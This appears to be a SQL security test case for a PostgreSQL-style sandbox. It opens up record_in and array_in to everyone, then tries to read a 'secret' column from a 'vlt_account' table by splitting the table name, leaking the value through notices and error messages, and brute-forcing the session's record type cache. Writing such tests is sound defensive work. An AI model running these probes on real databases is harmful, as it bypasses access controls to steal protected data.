-- Has a refused block name a column by the value; a session keeps, by number, what rows look like.
-- wants: read
-- setup:
DO $$ BEGIN
  IF current_database() = 'plain' THEN GRANT EXECUTE ON FUNCTION record_in, array_in TO PUBLIC; END IF;
END $$;
-- attack:
DO $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
  RAISE NOTICE '%', value;  -- where nothing is refused, it need not be asked for
  EXECUTE format('SELECT x::text FROM (SELECT 1 AS %I) x', value) INTO value;
END $$;
SELECT row_to_json(record_in('(1)', 2249, 0));
SELECT row_to_json(record_in('(1)', 2249, 1));
SELECT row_to_json(record_in('(1)', 2249, 2));
SELECT to_json(array_in('{"(1)"}', 2249, 0));
SELECT to_json(array_in('{"(1)"}', 2249, 1));
SELECT to_json(array_in('{"(1)"}', 2249, 2));
DO $$ BEGIN
  FOR n IN 0..100 LOOP
    BEGIN
      RAISE NOTICE '%', row_to_json(record_in('(1)', 2249, n));
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END $$;
